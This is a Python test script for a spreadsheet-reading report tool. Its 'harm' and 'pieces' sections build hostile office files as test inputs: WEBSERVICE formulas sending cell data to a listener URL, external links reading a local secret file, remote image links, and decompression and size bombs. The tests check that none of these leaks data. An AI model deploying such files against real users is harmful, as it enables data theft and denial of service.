#!/usr/bin/env python3
"""Data in .xlsx and .ods: the same figures as from CSV, places told by cells, and sheets that mean harm.

usage: sheets.py TAQRIR SAMPLE_MISSION
"""
import csv
import datetime
import os
import pathlib
import re
import shutil
import subprocess
import sys
import tempfile

import office as o
from hostile import SECRET, Listener, deflated_bomb
from support import Mission, faults, finish, need

FIRST_DAY = datetime.date(1899, 12, 30)  # of Excel's serial numbers


# ---------------------------------------------------------------- sheets made of CSV files

def value(text):
    """The cell that a person would have: numbers, dates and yes or no are such."""
    if re.fullmatch(r"\d{4}-\d\d-\d\d", text):
        return ("date", (datetime.date.fromisoformat(text) - FIRST_DAY).days)
    if re.fullmatch(r"-?(0|[1-9]\d*)([.,]\d+)?", text):
        return float(text.replace(",", ".")) if re.search(r"[.,]", text) else int(text)
    return text


def mixed(rows):
    """The same figures as people have them: every third number by a formula, some 1 and 0 as yes and no."""
    count = 0
    for row in rows[1:]:
        for n, cell in enumerate(row):
            if isinstance(cell, (int, float)):
                count += 1
                row[n] = ("formula", (f"{cell}+0", cell)) if count % 3 == 0 else ("bool", cell) if cell in (0, 1) and count % 5 == 0 else cell
    return rows


def rows_of(path):
    try:
        text = path.read_text(encoding="utf-8-sig")
    except UnicodeDecodeError:
        text = path.read_text(encoding="cp1252")
    separator = max(",;\t", key=text.splitlines()[0].count)
    return [[value(cell) for cell in row] for row in csv.reader(text.splitlines(), delimiter=separator)]


def ods(name, rows):
    def cell(v):
        if v == "" or v is None:
            return "<table:table-cell/>"
        if isinstance(v, tuple):
            day = (FIRST_DAY + datetime.timedelta(days=v[1])).isoformat()
            return f'<table:table-cell office:value-type="date" office:date-value="{day}"><text:p>un jour</text:p></table:table-cell>'
        if isinstance(v, str):
            return f'<table:table-cell office:value-type="string"><text:p>{o.escaped(v)}</text:p></table:table-cell>'
        return f'<table:table-cell office:value-type="float" office:value="{v}"><text:p>{v:,}</text:p></table:table-cell>'
    body = "".join("<table:table-row>" + "".join(map(cell, row)) + '<table:table-cell table:number-columns-repeated="16000"/>'
                   "</table:table-row>" for row in rows)
    return o.odt(f'<table:table table:name="{name}">{body}<table:table-row table:number-rows-repeated="1048000">'
                 '<table:table-cell table:number-columns-repeated="16384"/></table:table-row></table:table>', kind="spreadsheet")


def dumps(taqrir, mission, cache):
    """The technical analyses as text, by activity."""
    out = cache / "out"
    shutil.rmtree(out, ignore_errors=True)
    run = subprocess.run([taqrir, "build", str(mission), "technical-analysis", "--format", "document", "--out", str(out)],
                         env=dict(os.environ, XDG_CACHE_HOME=str(cache), SOURCE_DATE_EPOCH="1750000000"), capture_output=True, text=True)
    need(run.returncode == 0, f"{mission.name}: {run.stderr}")
    return {str(p.relative_to(out)): p.read_text() for p in sorted(out.rglob("*")) if p.is_file() and p.name != "manifest.json"}


def same_figures(taqrir, sample):
    with tempfile.TemporaryDirectory() as home:
        home = pathlib.Path(home)
        wanted = None
        for form in ("csv", "xlsx", "ods"):
            if form == "xlsx" and not shutil.which("soffice"):
                print("SKIPPED: .xlsx (LibreOffice is not installed)")
                continue
            mission = home / form / "mission"
            shutil.copytree(sample, mission)
            count = 0
            for path in sorted(mission.rglob("donnees/*.csv")):
                if form == "csv":
                    continue
                rows, name = rows_of(path), "Données"
                made = o.xlsx([(name, mixed(rows) + [[], []]), ("Notes", [["x"]])]) if form == "xlsx" else ods(name, rows)
                path.with_suffix("." + form).write_bytes(made)
                path.unlink()
                count += 1
            for toml in mission.rglob("activity.toml"):
                if form != "csv":
                    toml.write_text(re.sub(r'(donnees/[\w-]+)\.csv"', rf'\1.{form}#Données"', toml.read_text()))
            got = dumps(taqrir, mission, home / form)
            need(len(got) > 0 and (form == "csv" or count > 5), f"{form}: {len(got)} analyses, {count} sheets")
            if form == "csv":
                wanted = got
            for name in wanted:
                lines = [(a, b) for a, b in zip(wanted[name].splitlines(), got.get(name, "").splitlines()) if a != b]
                need(wanted[name] == got.get(name), f"{form}: {name} differs: {lines[:2]}")
            print(f"{form}: {len(got)} analyses, {count} sheets")


# ---------------------------------------------------------------- places and kinds of cells

def attendance(taqrir, name, content, key=None):
    mission = Mission(taqrir)
    mission.put("donnees/" + name, content)
    mission.change('"donnees/presences.csv"', f'"donnees/{key or name}"')
    return mission


def places(taqrir):
    rows = rows_of(Mission(taqrir).activity / "donnees/presences.csv")
    for form, make in (("xlsx", lambda r: o.xlsx([("Présences", r), ("Autre", [["a"], ["b"]])])), ("ods", lambda r: ods("Présences", r))):
        if form == "xlsx" and not shutil.which("soffice"):
            continue
        wrong = [list(row) for row in rows]
        wrong[2][-1] = "peut-être"
        column = o.column_name(len(wrong[2]) - 1)
        with attendance(taqrir, "p." + form, make(wrong)) as mission:
            run = mission.build("technical-analysis")
            place = f"p.{form}: sheet “Présences”, cell {column}3: error: "
            need(run.status == 1 and place in run.err, f"{form}: no “{place}”: {run.err}")
            found, _ = mission.diagnostics("build", "mission", "technical-analysis")
            need(any(d.get("place") == f"sheet “Présences”, cell {column}3" and d["line"] is None and d["column"] is None for d in found),
                 f"{form}: no place in {found}")
        twice = rows + [rows[1]]
        with attendance(taqrir, "p." + form, make(twice)) as mission:
            run = mission.build("technical-analysis")
            need(f"cell A{len(twice)}: warning: participant" in run.err and "as in sheet “Présences”, cell A2" in run.err,
                 f"{form}: duplicate: {run.err}")
        with attendance(taqrir, "p." + form, make(rows), f"p.{form}#Presences") as mission:
            run = mission.build("technical-analysis")
            need(run.status == 1 and "has no sheet “Presences”" in run.err and "did you mean “Présences”?" in run.err, f"{form}: {run.err}")
        with attendance(taqrir, "p." + form, make([["Présences de l’atelier", "", ""]] + rows)) as mission:
            run = mission.build("technical-analysis")
            need(run.status == 1 and "the first line does not name the columns" in run.err and "cell A1" in run.err, f"{form}: {run.err}")


def kinds(taqrir):
    """A cell of each kind comes in as its value: told by what is complained of."""
    if not shutil.which("soffice"):
        return
    rows = [["code", "x"], ["A", ("date", 45826)], ["B", ("percent", 0.4567)], ["C", ("points", 12.25)], ["D", ("bool", 1)],
            ["E", ("formula", ("6*7", 42))], ["F", "=1+1"], ["G", '@SUM(1)'], ["H", "00012"],
            ["I", ("formula", ('HYPERLINK("http://127.0.0.1:9","clic")', "clic"))]]
    for n, said in ((2, "2025-06-18"), (3, "0.4567"), (4, "12.25"), (6, "42"), (7, "=1+1"), (8, "@SUM(1)"), (9, "00012"), (10, "clic")):
        cell = rows[n - 1][1]
        with attendance(taqrir, "p.xlsx", o.xlsx([("S", [["code", "sexe", "j1_matin"], ["P1", cell, 1]])])) as mission:
            run = mission.build("technical-analysis")
            need(f"“{said}”" in run.err, f"kind of {cell}: nothing said of “{said}”: {run.err}")


def without_office(taqrir):
    with attendance(taqrir, "p.xlsx", o.xlsx([("S", [["a"], [1]])])) as mission:
        bare = mission.home / "bin"
        bare.mkdir()
        if pandoc := shutil.which("pandoc"):
            os.symlink(pandoc, bare / "pandoc")
        run = mission.run("build", "mission", "technical-analysis", "recommendations", "--out", "out", path=str(bare))
        need(run.status == 3 and "LibreOffice reads this spreadsheet, and is not installed" in run.err
             and "sudo apt-get install libreoffice-calc-nogui" in run.err, f"without LibreOffice: {run.status} {run.err}")
        need(mission.made(".pdf"), "without LibreOffice the other report is missing")


# ---------------------------------------------------------------- harm

def harm(taqrir):
    listener = Listener()
    with Mission(taqrir) as there:
        secret = there.home / "secret.csv"
        secret.write_text(SECRET + ",1\n")
        rows = [["code", "sexe", "j1_matin"],
                ["P1", ("formula", (f'_xlfn.WEBSERVICE("{listener.url}/w?"&A1)', None)), 1],
                ["P2", ("formula", ("'[1]S'!A1", None)), 1]]
        external = {
            "xl/externalLinks/externalLink1.xml": o.HEAD + f'<externalLink {o.S}><externalBook r:id="rId1"><sheetNames>'
            '<sheetName val="S"/></sheetNames></externalBook></externalLink>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": o.HEAD + '<Relationships xmlns="http://schemas.openxmlformats.org/package/'
            f'2006/relationships"><Relationship Id="rId1" Type="{o.RELATION}externalLinkPath" Target="file://{secret}" '
            'TargetMode="External"/></Relationships>'}
        linked = o.odt(
            f'<table:table table:name="S"><table:table-source xlink:href="{listener.url}/s.ods" table:table-name="S"/><table:table-row>'
            '<table:table-cell office:value-type="string"><text:p>code</text:p></table:table-cell><table:table-cell table:formula="of:='
            f'WEBSERVICE(&quot;{listener.url}/o&quot;)" office:value-type="string"><text:p>y</text:p></table:table-cell>'
            f'<table:table-cell table:formula="of:=\'file://{secret}\'#$S.A1" office:value-type="string"><text:p>z</text:p>'
            f'<draw:frame><draw:image xlink:href="{listener.url}/i.png"/></draw:frame></table:table-cell></table:table-row></table:table>',
            kind="spreadsheet")
        huge = o.odt('<table:table table:name="S"><table:table-row table:number-rows-repeated="1000000"><table:table-cell '
                     'table:number-columns-repeated="1000" office:value-type="string"><text:p>x</text:p></table:table-cell>'
                     "</table:table-row></table:table>", kind="spreadsheet")
        for name, content, said in [
                ("p.xlsx", o.xlsx([("S", rows)], parts=external), ""),
                ("p.ods", linked, ""),
                ("grand.ods", huge, "a sheet in it has more than 200 columns or 200000 cells"),
                ("bombe.xlsx", deflated_bomb(100, "xl/worksheets/sheet1.xml"), "unpacks to more than any text needs"),
                ("coupe.xlsx", o.xlsx([("S", rows)])[:900], "no whole office file"),
                ("faux.ods", b"PK\x03\x04rien", "no whole office file")]:
            if name == "p.xlsx" and not shutil.which("soffice"):
                continue
            with attendance(taqrir, name, content) as mission:
                run = mission.run("build", "mission", "technical-analysis", "recommendations", "--out", "out")
                need(run.status == 1, f"{name}: status {run.status}: {run.err}")
                need(said in run.err and name in run.err, f"{name}: nobody says “{said}”: {run.err}")
                made = b"".join(p.read_bytes() for p in mission.home.rglob("*") if p.is_file() and "cache" in str(p))
                need(SECRET not in run.err and SECRET.encode() not in made, f"{name}: the secret came out")
                need(not listener.hits, f"{name}: fetched {listener.hits}")
                need(any("recommendations" in str(p) for p in mission.made(".pdf")), f"{name}: the other report is missing")
                print(f"{name}: {run.seconds:.1f} s")


def pieces(taqrir):
    """An annexed office file that names pictures elsewhere: as pages it shows none of them."""
    if not shutil.which("soffice"):
        return
    listener = Listener()
    with Mission(taqrir) as mission:
        secret = mission.home / "secret.png"
        secret.write_bytes(o.png(77, 55))
        mission.put("annexes/t.docx", o.docx(o.para("Bonjour") + o.para(o.picture("rIdWeb", attribute="r:link")) + o.para(
            o.picture("rIdFile", attribute="r:link")), relations=[("rIdWeb", "image", listener.url + "/a.png", True),
                                                                  ("rIdFile", "image", f"file://{secret}", True)]))
        with open(mission.activity / "activity.toml", "a") as toml:
            toml.write('\n[deliverables.annex-bundle]\n[[piece]]\nid = "t"\nfile = "annexes/t.docx"\nas = "pages"\ntitle = { fr = "T" }\n')
        run = mission.run("build", "mission", "annex-bundle", "--out", "out")
        need(run.status == 0, f"pages of a Word file: {run.err}")
        need(not listener.hits, f"pages of a Word file: fetched {listener.hits}")
        for pdf in mission.made(".pdf"):
            listed = subprocess.run(["pdfimages", "-list", str(pdf)], capture_output=True, text=True).stdout
            need(" 77 " not in listed, f"{pdf.name} shows a picture that lies beside the mission: {listed}")


if __name__ == "__main__":
    same_figures(sys.argv[1], pathlib.Path(sys.argv[2]))
    places(sys.argv[1])
    kinds(sys.argv[1])
    without_office(sys.argv[1])
    harm(sys.argv[1])
    pieces(sys.argv[1])
    finish("sheets")
